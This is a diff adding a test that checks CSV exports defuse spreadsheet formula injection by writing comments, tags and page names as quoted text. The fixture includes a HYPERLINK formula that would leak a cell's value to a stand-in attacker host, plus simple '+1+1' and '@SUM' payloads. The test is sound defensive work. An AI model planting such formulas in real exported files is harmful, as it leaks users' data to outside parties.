@@ -113,6 +113,33 @@ describe('exports', () => {
     expect(response.headers[EXPORT_ROWS_HEADER]).toBeUndefined();
   });
 
+  it('CSV formula injection: a comment, tag or page name a spreadsheet would run is written as text', async () => {
+    const test = await buildTest(ctx.t.db, ctx.world.client.id, RESULTS_READY);
+    const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A2,"Open")';
+    await buildParticipant(ctx.t, test.id, {
+      recording: { startMs: START, durationMs: 10_000 },
+      significantPoints: [
+        { emotion: 'joy', timestampTop: START + 2_000, comment: HYPERLINK, tags: ['@SUM(1+1)'] },
+      ],
+      sections: [{ timestampStart: START, timestampEnd: START + 10_000, label: { name: '+1+1', urls: [] } }],
+    });
+    await queueTestMetrics(ctx.t.db, test.id, ctx.t.clock.now);
+    await runJobsUntilIdle(
+      { db: ctx.t.db, files: ctx.t.files, log: ctx.t.app.log, clock: () => ctx.t.clock.now },
+      JOB_HANDLERS,
+    );
+    const events = (await as.clientAdmin.get(`/tests/${test.id}/exports/events`)).body;
+    expect(events).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
+    expect(events).not.toMatch(/,"?=HYPERLINK/);
+    const metrics = csvLines((await as.clientAdmin.get(`/tests/${test.id}/exports/metrics`)).body);
+    const names = metrics.slice(1).map((line) => line.split(',')[2]);
+    expect(names).toContain("'+1+1");
+    expect(names).toContain("'@SUM(1+1)");
+    expect(names).not.toContain('+1+1');
+    // numbers stay numbers, negative ones too: only text is defused
+    expect(metrics.slice(1).every((line) => !/,'-?\d/.test(line))).toBe(true);
+  });
+
   it('exports page and tag metrics with each mean’s count and interval', async () => {
     const { testId } = await recordedTest(3);
     await ctx.t.db
